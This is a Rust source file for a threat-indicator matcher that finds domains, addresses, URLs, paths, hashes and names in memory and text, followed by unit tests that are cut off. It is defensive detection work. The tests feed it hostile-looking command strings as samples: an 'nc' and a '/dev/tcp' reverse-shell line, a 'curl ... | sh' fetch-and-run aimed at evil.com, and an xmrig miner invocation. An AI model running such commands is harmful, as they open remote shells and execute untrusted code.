//! Finds values of indicators in bytes: in memory, in arguments, in files. The words of the bytes are looked up, instead of
//! searching for each value: what it costs hardly depends on how many there are.
//!
//! A word is a run of letters, digits, dots, dashes and underscores. From it follow domains (each end that begins at a
//! label), addresses, hashes, names, and the URLs and paths that it is part of. Longer texts are found by their longest
//! word. A bit for each value tells for most words that they are none of them.

use std::collections::HashMap;
use std::net::{IpAddr, Ipv6Addr};
use std::ops::Range;
use std::sync::Arc;

use bstr::ByteSlice;

use super::index::{Entry, Index, START, finished, hash, step};
use super::value::{Kind, plain};
use crate::int::{u64_of, usize_of};
use crate::memory::Sieve;

/// Most values of one text.
const VALUES_MOST: usize = 4096;
/// Bytes around a word in which the rest of what is sought may be.
pub(in crate::analysis) const CONTEXT: u64 = 160;
/// Most words that are kept of all memory.
const MOST: usize = 300_000;

/// Shortest word that is looked up in memory, and elsewhere.
const LEAST: usize = 4;
const LEAST_OF_TEXT: usize = 2;
/// Bytes of a domain.
const DOMAIN: usize = 253;
/// Bytes of a URL, a path, a text.
const LONGEST: usize = 2048;
/// Bytes of a text that are searched for.
const TEXT: usize = 512;
/// Texts that are looked for by the same word.
const SAME_WORD: usize = 256;
/// Hits of one value in one slice.
const HITS: u8 = 32;
/// Characters of a string in UTF-16.
const WIDE: usize = 1024;

/// What is looked up.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::analysis) enum Scope {
    /// In memory, where names of three letters and what is too general are everywhere.
    Memory,
    /// In arguments, files and logs.
    Text,
}

/// The finder.
#[derive(Debug)]
pub(in crate::analysis) struct Words {
    index: Arc<Index>,
    scope: Scope,
    bits: Vec<u64>,
    shift: u32,
    /// Texts by the hash of their longest word: the entry, and the place of the word in the text.
    anchors: HashMap<u64, Vec<(u32, u32)>>,
    /// Greatest place of a word in its text.
    reach: usize,
    /// Texts that are not looked for, as their words are short or those of many.
    pub(in crate::analysis) left_out: u64,
    has: Kinds,
}

#[derive(Debug, Default)]
struct Kinds {
    domains: bool,
    /// Whether there are domains whose first label is shorter than a word.
    short_labels: bool,
    addresses: bool,
    networks: bool,
    urls: bool,
    paths: bool,
    /// Whether words without a dot matter that are no hashes.
    names: bool,
}

/// The classes of bytes.
const WORD: u8 = 1;
const PATH: u8 = 2;
const URL: u8 = 4;
const HEX: u8 = 8;

static CLASSES: [u8; 256] = classes();

const fn classes() -> [u8; 256] {
    let mut all = [0_u8; 256];
    let mut byte = 0_u8;
    loop {
        let is_word = byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
        let is_path = is_word || matches!(byte, b'/' | b'+' | b'~' | b'%');
        let is_url =
            byte.is_ascii_graphic() && !matches!(byte, b'"' | b'<' | b'>' | b'\\' | b'^' | b'`' | b'{' | b'|' | b'}');
        let mut class = 0;
        if is_word {
            class |= WORD;
        }
        if is_path {
            class |= PATH;
        }
        if is_url {
            class |= URL;
        }
        if byte.is_ascii_hexdigit() {
            class |= HEX;
        }
        set(&mut all, byte, class);
        if byte == 255 {
            return all;
        }
        byte = byte.wrapping_add(1);
    }
}

#[expect(clippy::indexing_slicing, clippy::as_conversions, reason = "a byte is a place in a table of 256")]
const fn set(all: &mut [u8; 256], byte: u8, class: u8) {
    all[byte as usize] = class;
}

#[inline]
fn is(byte: u8, class: u8) -> bool {
    CLASSES.get(usize::from(byte)).is_some_and(|of| of & class != 0)
}

#[inline]
fn is_at(bytes: &[u8], at: usize, class: u8) -> bool {
    bytes.get(at).is_some_and(|&byte| is(byte, class))
}

impl Words {
    pub(in crate::analysis) fn new(index: &Arc<Index>, scope: Scope) -> Self {
        let wanted = |entry: &&Entry| match scope {
            Scope::Memory => Index::is_in_memory(entry),
            Scope::Text => !entry.is_expression && !matches!(entry.kind, Kind::Port | Kind::Directory | Kind::Network),
        };
        let count = index.entries.iter().filter(wanted).count();
        let bits = count.saturating_mul(16).next_power_of_two().clamp(1 << 16, 1 << 30);
        let shift = 64_u32.saturating_sub(bits.trailing_zeros());
        let mut words = Words {
            index: Arc::clone(index),
            scope,
            bits: vec![0; bits / 64],
            shift,
            anchors: HashMap::new(),
            reach: 0,
            left_out: 0,
            has: Kinds { networks: index.has_networks(), ..Kinds::default() },
        };
        for (number, entry) in (0_u32..).zip(&index.entries).filter(|(_, entry)| wanted(entry)) {
            words.add(number, entry);
        }
        words
    }

    fn least(&self) -> usize {
        if self.scope == Scope::Memory { LEAST } else { LEAST_OF_TEXT }
    }

    fn add(&mut self, number: u32, entry: &Entry) {
        let least = self.least();
        let index = Arc::clone(&self.index);
        let key = index.key_of(entry);
        self.set(hash(key));
        match entry.kind {
            Kind::Domain => {
                self.has.domains = true;
                self.has.short_labels |= key.find_byte(b'.').is_some_and(|len| len < least);
            }
            Kind::Address => self.has.addresses = true,
            Kind::Url => self.has.urls = true,
            Kind::Path if key.iter().all(|&byte| is(byte, PATH)) => self.has.paths = true,
            Kind::Name | Kind::Process if key.iter().all(|&byte| is(byte, WORD)) => self.has.names = true,
            kind if kind.is_hash() => {}
            _ => {
                // The word may stand anywhere in the text.
                let key = key.get(..TEXT).unwrap_or(key);
                // The longest word is the rarest, unless many texts have it.
                let mut all = words_of(key);
                all.retain(|(_, word)| word.len() >= least);
                all.sort_by_key(|(_, word)| std::cmp::Reverse(word.len()));
                let is_free = |word: &[u8]| self.anchors.get(&hash(word)).is_none_or(|all| all.len() < SAME_WORD);
                match all.into_iter().find(|(_, word)| is_free(word)) {
                    Some((at, word)) => {
                        self.anchors.entry(hash(word)).or_default().push((number, u32::try_from(at).unwrap_or(0)));
                        self.reach = self.reach.max(at);
                        self.set(hash(word));
                        self.has.names = true;
                    }
                    None => self.left_out = self.left_out.saturating_add(1),
                }
            }
        }
    }

    fn set(&mut self, hash: u64) {
        let place = hash.checked_shr(self.shift).unwrap_or(0);
        if let Some(word) = self.bits.get_mut(usize_of(place >> 6)) {
            *word |= 1_u64.wrapping_shl(u32::try_from(place & 63).unwrap_or(0));
        }
    }

    #[inline]
    fn may_be(&self, hash: u64) -> bool {
        let place = hash.checked_shr(self.shift).unwrap_or(0);
        let word = self.bits.get(usize_of(place >> 6)).copied().unwrap_or(0);
        word & 1_u64.wrapping_shl(u32::try_from(place & 63).unwrap_or(0)) != 0
    }

    /// Whether there is anything to look for.
    pub(in crate::analysis) fn is_empty(&self) -> bool {
        !self.has.networks && self.bits.iter().all(|&word| word == 0)
    }

    /// The addresses and networks that an address is or is in, except what is too general for the scope.
    fn of_address(&self, address: IpAddr) -> Vec<u32> {
        let mut all = self.index.of_address(address);
        all.retain(|&number| {
            self.scope == Scope::Text || self.index.entry(number).is_some_and(|entry| self.index.quiet(entry).is_none())
        });
        all
    }

    fn is_wanted(&self, entry: &Entry) -> bool {
        self.scope == Scope::Text || Index::is_in_memory(entry)
    }

    /// The entries that bytes which the finder found stand for, and the text that they are.
    pub(in crate::analysis) fn resolve(&self, bytes: &[u8]) -> (Vec<u32>, Form) {
        let narrow = || -> Option<Vec<u8>> {
            let (pairs, rest) = bytes.as_chunks::<2>();
            (rest.is_empty() && !pairs.is_empty() && pairs.iter().all(|[_, high]| *high == 0))
                .then(|| pairs.iter().map(|[low, _]| *low).collect())
        };
        let mut all = self.entries_of(bytes);
        if !all.is_empty() {
            return (all, Form::Plain);
        }
        if let Some(text) = narrow() {
            all = self.entries_of(&text);
            if !all.is_empty() {
                return (all, Form::Utf16);
            }
        }
        if let Some(address) = socket_address(bytes) {
            return (self.of_address(address), Form::SocketAddress);
        }
        if let Some(name) = wire_name(bytes) {
            let of = self.index.of_kind(Kind::Domain, &name);
            return (of.map(|(number, _)| number).collect(), Form::Wire);
        }
        (Vec::new(), Form::Plain)
    }

    /// The entries that plain text stands for.
    fn entries_of(&self, text: &[u8]) -> Vec<u32> {
        let mut all: Vec<u32> =
            self.index.with_key(text).filter(|(_, entry)| self.is_wanted(entry)).map(|(number, _)| number).collect();
        if let Some(address) = text.to_str().ok().and_then(|text| text.parse::<IpAddr>().ok()) {
            for number in self.of_address(plain(address)) {
                if !all.contains(&number) {
                    all.push(number);
                }
            }
        }
        if self.has.urls
            && let Some(key) = url_of(text)
        {
            all.extend(
                self.index
                    .of_kind(Kind::Url, &key)
                    .map(|(number, _)| number)
                    .filter(|n| !all.contains(n))
                    .collect::<Vec<_>>(),
            );
        }
        if all.is_empty() && text.len() >= TEXT {
            // Of a long text, only the beginning is looked for.
            let mut of_words: Vec<u64> = words_of(text).iter().map(|(_, word)| hash(word)).collect();
            of_words.sort_unstable();
            of_words.dedup();
            let anchored = of_words.iter().filter_map(|word| self.anchors.get(word)).flatten();
            let begins =
                |number: u32| self.index.entry(number).is_some_and(|entry| self.index.key_of(entry).starts_with(text));
            all.extend(anchored.map(|(number, _)| *number).filter(|&number| begins(number)));
        }
        all
    }

    /// All values in a text, each with its place.
    pub(in crate::analysis) fn in_text(&self, text: &[u8]) -> Vec<(usize, usize)> {
        let mut all = Vec::new();
        self.find(text, 0..text.len(), &mut |_, range| {
            if all.len() < VALUES_MOST {
                all.push((range.start, range.end));
            }
        });
        all
    }
}

/// How text was written where it was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::analysis) enum Form {
    /// As it is.
    Plain,
    /// In UTF-16.
    Utf16,
    /// As the address of a socket.
    SocketAddress,
    /// As in a question to DNS.
    Wire,
}

/// The words of a text, each with its place.
fn words_of(text: &[u8]) -> Vec<(usize, &[u8])> {
    let words = text.split(|&byte| !is(byte, WORD));
    let placed = words.scan(0_usize, |at, word| {
        let start = *at;
        *at = start.saturating_add(word.len()).saturating_add(1);
        Some((start, word))
    });
    placed.collect()
}

/// A URL in the form of its key: without scheme, its host in lower case, without what ends a sentence.
fn url_of(text: &[u8]) -> Option<Vec<u8>> {
    let end = text.find_byteset(b"/?#").unwrap_or(text.len());
    let (host, path) = text.split_at_checked(end)?;
    if host.is_empty() || path.is_empty() && !host.contains(&b':') {
        return None;
    }
    let mut key = host.to_ascii_lowercase();
    key.extend_from_slice(path);
    if key.ends_with(b"/") {
        key.pop();
    }
    Some(key)
}

/// The address of a `sockaddr` of the kernel.
fn socket_address(bytes: &[u8]) -> Option<IpAddr> {
    match bytes {
        [2, 0, high, low, rest @ .., 0, 0, 0, 0, 0, 0, 0, 0] if (*high, *low) != (0, 0) && rest.len() == 4 => {
            let bytes: [u8; 4] = rest.try_into().ok()?;
            Some(IpAddr::from(bytes)).filter(|_| bytes.first() != Some(&0))
        }
        [10, 0, high, low, 0, 0, 0, 0, rest @ ..] if (*high, *low) != (0, 0) && rest.len() == 16 => {
            let bytes: [u8; 16] = rest.try_into().ok()?;
            Some(plain(IpAddr::V6(Ipv6Addr::from(bytes))))
                .filter(|address| !address.is_unspecified() && !address.is_loopback())
        }
        _ => None,
    }
}

/// A domain as DNS writes it: each label behind its length, a zero at the end.
fn wire_name(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut name: Vec<u8> = Vec::new();
    let mut rest = bytes;
    loop {
        let (&len, after) = rest.split_first()?;
        if len == 0 {
            return (after.is_empty() && !name.is_empty()).then_some(name);
        }
        if len > 63 || name.len() > DOMAIN {
            return None;
        }
        let (label, after) = after.split_at_checked(len.into())?;
        if label.iter().any(|&byte| byte == b'.' || !is(byte, WORD)) {
            return None;
        }
        if !name.is_empty() {
            name.push(b'.');
        }
        name.extend(label.iter().map(u8::to_ascii_lowercase));
        rest = after;
    }
}

/// A search of one slice.
struct Pass<'w, 'h> {
    words: &'w Words,
    bytes: &'h [u8],
    span: Range<usize>,
    /// Where the last path and the last address of version 6 ended.
    path_end: usize,
    v6_end: usize,
    hits: HashMap<u32, u8>,
    found: Vec<(usize, usize)>,
}

impl Sieve for Words {
    fn kinds(&self) -> usize {
        1
    }

    fn reach(&self) -> usize {
        LONGEST.saturating_mul(2)
    }

    fn most(&self) -> usize {
        MOST
    }

    fn context(&self) -> u64 {
        CONTEXT
    }

    fn find(&self, haystack: &[u8], span: Range<usize>, each: &mut dyn FnMut(usize, Range<usize>)) {
        let mut pass = Pass {
            words: self,
            bytes: haystack,
            span: span.clone(),
            path_end: 0,
            v6_end: 0,
            hits: HashMap::new(),
            found: Vec::new(),
        };
        pass.narrow();
        if self.has.short_labels {
            pass.short_labels();
        }
        if self.scope == Scope::Memory {
            pass.wide();
            pass.addresses();
        }
        let mut found = pass.found;
        found.sort_unstable();
        found.dedup();
        for (start, end) in found {
            if span.contains(&start) {
                each(0, start..end);
            }
        }
    }
}

impl Pass<'_, '_> {
    /// Words in ASCII.
    fn narrow(&mut self) {
        let least = self.words.least();
        let stride = least.saturating_sub(1);
        let bytes = self.bytes;
        // The word by which a path is found may be any of its words, and short ones are none.
        let reach = self.words.reach.max(if self.words.has.paths { LONGEST } else { 0 });
        let stop = self.span.end.saturating_add(reach).min(bytes.len());
        let mut from = self.span.start;
        let mut probe = from.saturating_add(stride);
        while probe.saturating_sub(stride) < stop {
            let Some(&byte) = bytes.get(probe) else { break };
            if !is(byte, WORD) {
                from = probe.saturating_add(1);
                probe = probe.saturating_add(least);
                continue;
            }
            let mut left = probe;
            while left > from && is_at(bytes, left.saturating_sub(1), WORD) {
                left = left.saturating_sub(1);
            }
            let mut right = probe.saturating_add(1);
            while is_at(bytes, right, WORD) {
                right = right.saturating_add(1);
            }
            if right.saturating_sub(left) >= least {
                self.word(left, right);
            }
            from = right.saturating_add(1);
            probe = right.saturating_add(least);
        }
    }

    /// A word.
    fn word(&mut self, left: usize, right: usize) {
        let bytes = self.bytes;
        let words = self.words;
        let Some(word) = bytes.get(left..right) else { return };
        let is_cut = left == self.span.start && left.checked_sub(1).is_some_and(|before| is_at(bytes, before, WORD));
        let has_dot = memchr::memchr(b'.', word).is_some();
        let is_hash = matches!(word.len(), 32 | 40 | 64);
        let is_before_colon = bytes.get(right) == Some(&b':');
        if words.has.paths && left.checked_sub(1).is_some_and(|before| bytes.get(before) == Some(&b'/')) {
            self.path(left, right);
        }
        if words.has.domains && left > 0 {
            self.wire(left, right);
        }
        if (words.has.addresses || words.has.networks)
            && (is_before_colon || left.checked_sub(1).is_some_and(|at| bytes.get(at) == Some(&b':')))
        {
            self.version_6(left);
        }
        if !has_dot && !is_hash && !words.has.names {
            return;
        }
        // What ends a sentence belongs to no word, and what begins an option neither.
        let trimmed = word.trim_end_with(|c| matches!(c, '.' | '-' | '_'));
        let end = left.saturating_add(trimmed.len());
        let dashes = trimmed.len().saturating_sub(trimmed.trim_start_with(|c| matches!(c, '.' | '-')).len());
        let begin = left.saturating_add(dashes);
        self.ends(begin, end, is_cut, has_dot);
        if (begin, end) != (left, right) {
            self.ends(left, right, is_cut, has_dot);
        }
    }

    /// The ends of a word that begin at a label, and the word itself.
    fn ends(&mut self, from: usize, to: usize, is_cut: bool, has_dot: bool) {
        let (bytes, words) = (self.bytes, self.words);
        let begin = from.max(to.saturating_sub(DOMAIN));
        let mut state = START;
        let mut at = to;
        while at > begin {
            at = at.saturating_sub(1);
            let Some(&byte) = bytes.get(at) else { return };
            state = step(state, byte);
            let is_first = at == from;
            let is_whole = is_first && !is_cut;
            let is_label = is_whole || has_dot && at > 0 && bytes.get(at.saturating_sub(1)) == Some(&b'.');
            if !is_label || at >= self.span.end && words.reach == 0 {
                continue;
            }
            let hash = finished(state);
            if words.may_be(hash) {
                self.candidate(hash, at, to, is_whole);
            }
            if words.has.networks && is_whole && to.saturating_sub(at) <= 15 {
                self.in_network(at, to);
            }
        }
        if words.has.urls && has_dot {
            self.url(from, to, is_cut);
        }
    }

    fn candidate(&mut self, hash: u64, at: usize, to: usize, is_whole: bool) {
        let words = self.words;
        let Some(text) = self.bytes.get(at..to) else { return };
        let mut is_found = false;
        let mut numbers = Vec::new();
        for (number, entry) in words.index.hashed(hash, text).filter(|(_, entry)| words.is_wanted(entry)) {
            if entry.kind == Kind::Domain || is_whole {
                is_found = true;
                numbers.push(number);
            }
        }
        if is_found && self.counts(&numbers) {
            self.found.push((at, to));
        }
        if is_whole && let Some(anchored) = words.anchors.get(&hash) {
            for &(number, offset) in anchored {
                self.anchored(number, at, usize_of(offset.into()));
            }
        }
    }

    /// Counts hits, so that one value does not hide all others.
    fn counts(&mut self, numbers: &[u32]) -> bool {
        let mut is_new = false;
        for &number in numbers {
            let count = self.hits.entry(number).or_default();
            is_new |= *count < HITS;
            *count = count.saturating_add(1);
        }
        is_new
    }

    /// A text around its longest word.
    fn anchored(&mut self, number: u32, at: usize, offset: usize) {
        let index = Arc::clone(&self.words.index);
        let Some(entry) = index.entry(number) else { return };
        let key = index.key_of(entry);
        let key = key.get(..TEXT).unwrap_or(key);
        let Some(start) = at.checked_sub(offset) else { return };
        let end = start.saturating_add(key.len());
        let is_here = self.bytes.get(start..end).is_some_and(|here| here == key);
        let begins = key.first().is_some_and(|&byte| is(byte, WORD));
        // What is whole ends where its key does: in text of its own, more may follow.
        let ends = !matches!(entry.kind, Kind::Text | Kind::Command | Kind::Url | Kind::SshKey)
            && key.len() < TEXT
            && key.last().is_some_and(|&byte| is(byte, WORD));
        let is_bounded = (!begins || start.checked_sub(1).is_none_or(|before| !is_at(self.bytes, before, WORD)))
            && !(ends && is_at(self.bytes, end, WORD));
        if is_here && is_bounded && self.counts(&[number]) {
            self.found.push((start, end));
        }
    }

    fn in_network(&mut self, at: usize, to: usize) {
        let text = self.bytes.get(at..to).and_then(|text| text.to_str().ok());
        let Some(address) = text.and_then(|text| text.parse::<IpAddr>().ok()) else { return };
        let numbers = self.words.of_address(address);
        if !numbers.is_empty() && self.counts(&numbers) {
            self.found.push((at, to));
        }
    }

    /// A URL whose host begins at a word.
    fn url(&mut self, from: usize, to: usize, is_cut: bool) {
        let bytes = self.bytes;
        let is_slash = matches!(bytes.get(to), Some(b'/' | b'?' | b'#'));
        let is_port = bytes.get(to) == Some(&b':') && is_at(bytes, to.saturating_add(1), HEX);
        if is_cut || !(is_slash || is_port) {
            return;
        }
        let mut end = to;
        let most = from.saturating_add(LONGEST);
        while end < most && is_at(bytes, end, URL) {
            end = end.saturating_add(1);
        }
        let Some(whole) = bytes.get(from..end) else { return };
        let trimmed = whole.trim_end_with(|c| matches!(c, '.' | ',' | ';' | ':' | '!' | '\'' | ')' | ']' | '*'));
        // An argument of a shell may end at a sign that URLs may have.
        let cut = whole.split(|&byte| matches!(byte, b'\'' | b';' | b')' | b',')).next().unwrap_or(whole);
        for text in [whole, trimmed, cut] {
            let Some(key) = url_of(text) else { continue };
            let hash = hash(&key);
            if !self.words.may_be(hash) {
                continue;
            }
            let words = self.words;
            let of =
                words.index.hashed(hash, &key).filter(|(_, entry)| entry.kind == Kind::Url && words.is_wanted(entry));
            let numbers: Vec<u32> = of.map(|(number, _)| number).collect();
            if !numbers.is_empty() && self.counts(&numbers) {
                self.found.push((from, from.saturating_add(text.len())));
                return;
            }
        }
    }

    /// A path that a word is part of.
    fn path(&mut self, left: usize, right: usize) {
        let bytes = self.bytes;
        if left < self.path_end {
            return;
        }
        let mut start = left;
        while start > self.path_end
            && is_at(bytes, start.saturating_sub(1), PATH)
            && left.saturating_sub(start) < LONGEST
        {
            start = start.saturating_sub(1);
        }
        let mut end = right;
        while is_at(bytes, end, PATH) && end.saturating_sub(start) < LONGEST {
            end = end.saturating_add(1);
        }
        self.path_end = end;
        // Before what can be seen here, the path may begin elsewhere.
        if start == 0 && self.span.start > 0 {
            return;
        }
        let is_option = matches!(bytes.get(start..), Some([b'-', letter, b'/', ..]) if letter.is_ascii_alphabetic());
        let mut from = if is_option { start.saturating_add(2) } else { start };
        if bytes.get(from) != Some(&b'/') {
            return;
        }
        while bytes.get(from.saturating_add(1)) == Some(&b'/') {
            from = from.saturating_add(1);
        }
        let Some(path) = bytes.get(from..end) else { return };
        let trimmed = path.trim_end_with(|c| matches!(c, '.' | ',' | '/'));
        for text in [path, trimmed] {
            let hash = hash(text);
            if !self.words.may_be(hash) {
                continue;
            }
            let words = self.words;
            let of =
                words.index.hashed(hash, text).filter(|(_, entry)| entry.kind == Kind::Path && words.is_wanted(entry));
            let numbers: Vec<u32> = of.map(|(number, _)| number).collect();
            if !numbers.is_empty() && self.counts(&numbers) {
                self.found.push((from, from.saturating_add(text.len())));
                return;
            }
        }
    }

    /// Domains as DNS writes them whose first label is too short for a word.
    fn short_labels(&mut self) {
        let bytes = self.bytes;
        let least = self.words.least();
        let span = bytes.get(self.span.clone()).unwrap_or_default();
        for at in memchr::memchr3_iter(1, 2, 3, span) {
            let start = self.span.start.saturating_add(at);
            let left = start.saturating_add(1);
            let Some(len) = bytes.get(start).map(|&len| usize::from(len)).filter(|&len| len < least) else { continue };
            let right = left.saturating_add(len);
            // Another label follows.
            if bytes.get(right).is_some_and(|next| (1..64).contains(next)) && is_at(bytes, left, WORD) {
                self.wire(left, right);
            }
        }
    }

    /// A domain as DNS writes it, whose first label is a word.
    fn wire(&mut self, left: usize, right: usize) {
        let bytes = self.bytes;
        let len = right.saturating_sub(left);
        let Some(start) = left.checked_sub(1) else { return };
        if bytes.get(start).map(|&len| usize::from(len)) != Some(len) || len > 63 {
            return;
        }
        let rest =
            bytes.get(start..start.saturating_add(DOMAIN).saturating_add(2).min(bytes.len())).unwrap_or_default();
        let mut end = 0_usize;
        while let Some(&len) = rest.get(end) {
            end = end.saturating_add(usize::from(len)).saturating_add(1);
            if len == 0 {
                break;
            }
        }
        let Some(name) = rest.get(..end).and_then(wire_name) else { return };
        let numbers: Vec<u32> = self
            .words
            .index
            .of_kind(Kind::Domain, &name)
            .filter(|(_, entry)| self.words.is_wanted(entry))
            .map(|(number, _)| number)
            .collect();
        if !numbers.is_empty() && self.counts(&numbers) {
            self.found.push((start, start.saturating_add(end)));
        }
    }

    /// An address of version 6 that a word is part of.
    fn version_6(&mut self, left: usize) {
        let bytes = self.bytes;
        if left < self.v6_end {
            return;
        }
        let is_part = |at: usize| is_at(bytes, at, HEX) || matches!(bytes.get(at), Some(b':' | b'.'));
        let mut start = left;
        while start > self.v6_end && left.saturating_sub(start) < 45 && is_part(start.saturating_sub(1)) {
            start = start.saturating_sub(1);
        }
        let mut end = left;
        while end.saturating_sub(start) < 46 && is_part(end) {
            end = end.saturating_add(1);
        }
        self.v6_end = end;
        if start == 0 && self.span.start > 0 {
            return;
        }
        let Some(text) = bytes.get(start..end).and_then(|text| text.to_str().ok()) else { return };
        let trimmed = text.trim_end_matches(['.', ':']);
        let Some((address, len)) =
            [text, trimmed].into_iter().find_map(|text| Some((text.parse::<Ipv6Addr>().ok()?, text.len())))
        else {
            return;
        };
        let numbers = self.words.of_address(plain(address.into()));
        if !numbers.is_empty() && self.counts(&numbers) {
            self.found.push((start, start.saturating_add(len)));
        }
    }

    /// Strings in UTF-16, low byte first.
    fn wide(&mut self) {
        let bytes = self.bytes;
        let stride = LEAST.saturating_sub(1).saturating_mul(2);
        let char_at = |at: usize| match bytes.get(at..) {
            Some([low, 0, ..]) if low.is_ascii_graphic() || *low == b' ' => Some(*low),
            _ => None,
        };
        let mut from = self.span.start;
        let mut probe = from;
        while probe < self.span.end {
            // A string has a character at this place or at the next.
            let Some(at) =
                [probe, probe.saturating_add(1)].into_iter().find(|&at| char_at(at).is_some_and(|byte| is(byte, WORD)))
            else {
                probe = probe.saturating_add(stride);
                continue;
            };
            let mut start = at;
            while start >= from.saturating_add(2) && char_at(start.saturating_sub(2)).is_some() {
                start = start.saturating_sub(2);
            }
            let mut text = Vec::new();
            let mut end = start;
            while let Some(byte) = char_at(end).filter(|_| text.len() < WIDE) {
                text.push(byte);
                end = end.saturating_add(2);
            }
            if text.len() >= LEAST {
                let is_inside = start.checked_sub(2).and_then(char_at).is_some_and(|byte| is(byte, WORD));
                let from = text.iter().position(|&byte| !is(byte, WORD)).filter(|_| is_inside).unwrap_or(0);
                let mut pass = Pass {
                    words: self.words,
                    bytes: &text,
                    span: from..text.len(),
                    path_end: 0,
                    v6_end: 0,
                    hits: std::mem::take(&mut self.hits),
                    found: Vec::new(),
                };
                pass.narrow();
                self.hits = pass.hits;
                let place = |at: usize| start.saturating_add(at.saturating_mul(2));
                self.found.extend(pass.found.into_iter().map(|(from, to)| (place(from), place(to))));
            }
            from = end;
            probe = end.max(probe.saturating_add(1));
        }
    }

    /// Addresses of sockets, as programs give them to the kernel.
    fn addresses(&mut self) {
        if !self.words.has.addresses && !self.words.has.networks {
            return;
        }
        let bytes = self.bytes;
        let span = bytes.get(self.span.clone()).unwrap_or_default();
        for at in memchr::memchr2_iter(2, 10, span) {
            let at = self.span.start.saturating_add(at);
            let Some(&[family, 0, high, low, ..]) = bytes.get(at..) else { continue };
            if (high, low) == (0, 0) {
                continue;
            }
            let len = if family == 2 { 16 } else { 24 };
            let end = at.saturating_add(len);
            let Some(address) = bytes.get(at..end).and_then(socket_address) else { continue };
            let numbers = self.words.of_address(address);
            if !numbers.is_empty() && self.counts(&numbers) {
                self.found.push((at, end));
            }
        }
    }
}

impl Words {
    /// Bytes of memory that the bits take.
    pub(in crate::analysis) fn bytes(&self) -> u64 {
        u64_of(self.bits.len()).saturating_mul(8)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::index::{About, Builder, Test};
    use super::super::value::Value;
    use super::super::warninglists::Silencer;
    use super::*;

    fn words(all: &[(Kind, &str)]) -> Words {
        let mut builder = Builder::default();
        for (kind, text) in all {
            let value = Value::new(*kind, text).unwrap();
            builder.add(About::default(), &[vec![vec![Test::Is(value)]]]).unwrap();
        }
        Words::new(&Arc::new(builder.finish(&Silencer::default())), Scope::Memory)
    }

    fn found(words: &Words, text: &[u8]) -> Vec<String> {
        let mut all = Vec::new();
        words.find(text, 0..text.len(), &mut |_, range| {
            let start = range.start;
            let (entries, form) = words.resolve(&text[range.clone()]);
            assert!(!entries.is_empty(), "{:?}", text[range].as_bstr());
            for number in entries {
                let entry = words.index.entry(number).unwrap();
                let text = words.index.text_of(entry).as_bstr();
                all.push(match form {
                    Form::Plain => format!("{text}@{start}"),
                    form => format!("{text}@{start} {form:?}"),
                });
            }
        });
        all
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn domains_are_found_at_labels_only() {
        let words = words(&[(Kind::Domain, "evil.com")]);
        assert_eq!(found(&words, b"GET http://www.EVIL.com/x"), ["evil.com@15"]);
        assert_eq!(found(&words, b"evil.com.\0a"), ["evil.com@0"]);
        assert_eq!(found(&words, b"user@evil.com,"), ["evil.com@5"]);
        assert_eq!(found(&words, b"--host=evil.com"), ["evil.com@7"]);
        for other in [&b"notevil.com"[..], b"evil.com.br", b"evil.comx", b"evil-com", b"my-evil.com"] {
            assert!(found(&words, other).is_empty(), "{:?}", other.as_bstr());
        }
        assert_eq!(found(&words, b"\x03www\x04evil\x03com\0\0\x01"), ["evil.com@4 Wire"]);
        let text = [b"\0\0".to_vec(), wide("x http://a.evil.com/y"), b"\0".to_vec()].concat();
        assert_eq!(found(&words, &text), ["evil.com@24 Utf16"]);
    }

    #[test]
    fn addresses_are_found_in_all_their_forms() {
        let words = words(&[
            (Kind::Address, "203.0.113.7"),
            (Kind::Address, "2001:db8::7"),
            (Kind::Network, "198.51.100.0/24"),
        ]);
        assert_eq!(found(&words, b"nc 203.0.113.7 4444"), ["203.0.113.7@3"]);
        assert_eq!(found(&words, b"/dev/tcp/203.0.113.7/4444"), ["203.0.113.7@9"]);
        assert_eq!(found(&words, b"[2001:DB8:0::7]:443"), ["2001:db8::7@1"]);
        assert_eq!(found(&words, b"at 198.51.100.99."), ["198.51.100.0/24@3"]);
        for other in [&b"1203.0.113.7"[..], b"203.0.113.77", b"203.0.113.7.5", b"2001:db8::77", b"v203.0.113.7"] {
            assert!(found(&words, other).is_empty(), "{:?}", other.as_bstr());
        }
        let socket = b"\x01\x02\0\x11\x5c\xcb\0\x71\x07\0\0\0\0\0\0\0\0";
        assert_eq!(found(&words, socket), ["203.0.113.7@1 SocketAddress"]);
    }

    #[test]
    fn urls_paths_names_hashes_and_texts_are_found_whole() {
        let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        let words = words(&[
            (Kind::Url, "http://evil.com/a/b.sh"),
            (Kind::Path, "/tmp/.x/run.sh"),
            (Kind::Path, "/tmp/with blank"),
            (Kind::Name, "xmrig"),
            (Kind::Sha256, hash),
            (Kind::Text, "Mozilla/5.0 (evil)"),
            (Kind::Socket, "@evil-lock"),
        ]);
        assert_eq!(found(&words, b"curl https://evil.com/a/b.sh|sh"), ["http://evil.com/a/b.sh@13"]);
        assert_eq!(found(&words, b"'http://Evil.com/a/b.sh';"), ["http://evil.com/a/b.sh@8"]);
        assert!(found(&words, b"http://evil.com/a/b.sh2").is_empty());
        assert_eq!(found(&words, b"sh /tmp/.x/run.sh;"), ["/tmp/.x/run.sh@3"]);
        assert_eq!(found(&words, b"PATH=/bin:/tmp/.x/run.sh"), ["/tmp/.x/run.sh@10"]);
        assert!(found(&words, b"/var/tmp/.x/run.sh").is_empty());
        assert_eq!(found(&words, b"rm '/tmp/with blank'"), ["/tmp/with blank@4"]);
        assert_eq!(found(&words, b"./xmrig -o"), ["xmrig@2"]);
        assert!(found(&words, b"xmrig-6.21").is_empty() && found(&words, b"noxmrig").is_empty());
        assert_eq!(found(&words, hash.to_ascii_uppercase().as_bytes()), [format!("{hash}@0")]);
        assert_eq!(found(&words, b"User-Agent: Mozilla/5.0 (evil)\r\n"), ["Mozilla/5.0 (evil)@12"]);
        assert_eq!(found(&words, b"\0@evil-lock\0"), ["@evil-lock@1"]);
        assert!(found(&words, b"\0@evil-lock2\0").is_empty() && found(&words, b"'/tmp/with blanks'").is_empty());
    }

    #[test]
    fn texts_with_the_same_longest_word_are_found_by_another() {
